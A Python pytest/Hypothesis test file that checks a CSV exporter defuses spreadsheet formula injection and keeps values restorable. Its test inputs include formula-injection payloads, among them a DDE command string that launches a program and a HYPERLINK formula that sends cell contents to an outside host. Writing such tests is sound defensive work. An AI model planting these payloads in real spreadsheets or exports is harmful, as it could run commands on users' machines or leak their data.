"""CSV: no cell is run as a formula, none is harmed, and every one can be had back as it was."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Mapping
from datetime import UTC, date, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from peerinquiry.formats.export.columns import columns
from peerinquiry.formats.export.csv_table import defused, header, line, restored
from peerinquiry.formats.export.rows import Value

SIGNS = "=+-@＝＋－＠"
CELLS = st.text(st.sampled_from([*SIGNS, *" \u3000\u00a0\t\r\n;,'\"|ab1"]), max_size=12) | st.text(max_size=20)


def read(row: Mapping[str, Value]) -> dict[str, str]:
    (told,) = csv.DictReader(io.StringIO(header() + line(row), newline=""), strict=True)
    return told


@pytest.mark.parametrize(
    "text",
    [
        *(f"{sign}1+1" for sign in SIGNS),
        '=HYPERLINK("https://example.org/?"&A1)',
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "   =1",
        "\u3000＝1",
        "\u00a0=1",
        "\t=1",
        "\rx",
        "\nx",
        "'=1",
        '"=1',
    ],
)
def test_what_a_spreadsheet_would_run_has_an_apostrophe_in_front(text: str) -> None:
    assert defused(text).startswith("'")
    assert restored(defused(text)) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("late;=1", "late;'=1"),
        ("late\t@x", "late\t'@x"),
        ("two:\n- one\n- other", "two:\n'- one\n'- other"),
        ('x;"=1', "x;'\"=1"),
    ],
)
def test_so_has_what_would_begin_a_cell_where_cells_are_split_at_other_marks(text: str, cell: str) -> None:
    assert defused(text) == cell
    assert restored(cell) == text


@pytest.mark.parametrize("text", ["", "Who owns it?", "a = b", "1 - 2", "x, - y", "'tis", "Ann's", "mail@example.org"])
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert defused(text) == restored(text) == text


@given(CELLS)
@example("'\t=x")
@example("''=x")
@example(";';=x")
def test_every_text_can_be_had_back(text: str) -> None:
    assert restored(defused(text)) == text


@given(CELLS)
def test_no_beginning_of_a_cell_looks_like_a_formula(text: str) -> None:
    """Looked for in another way than it is made: cut at every mark, and looked at from the front."""
    for part in re.split(r"[;\t\r\n]", defused(text)):
        if part.lstrip(" \u00a0\u3000\"'")[:1] in set(SIGNS):
            assert part.startswith("'")
    assert defused(text)[:1] not in {"\t", "\r", "\n"}


@given(CELLS)
def test_a_text_is_one_cell_to_any_reader(text: str) -> None:
    assert restored(read({"text": text})["text"]) == text


def test_numbers_times_and_flags_are_not_harmed() -> None:
    row: dict[str, Value] = {
        "utc_offset": -300,
        "elapsed_s": -0.5,
        "undone": False,
        "due": date(2026, 12, 1),
        "happened_at": datetime(2026, 11, 22, 14, 0, 0, 250, UTC),
        "scores": (1, -5),
        "helpers": ("Bea", "=Carl"),
    }
    told = {name: cell for name, cell in read(row).items() if cell}
    assert told == {
        "utc_offset": "-300",
        "elapsed_s": "-0.5",
        "undone": "false",
        "due": "2026-12-01",
        "happened_at": "2026-11-22T14:00:00.000250Z",
        "scores": "[1, -5]",
        "helpers": '["Bea", "=Carl"]',
    }


def test_no_value_and_an_empty_text_are_two_things() -> None:
    cells = line({"title": ""}).removesuffix("\r\n").split(",")
    names = [column.name for column in columns()]
    assert [name for name, cell in zip(names, cells, strict=True) if cell == '""'] == ["title"]
    assert set(cells) == {"", '""'}
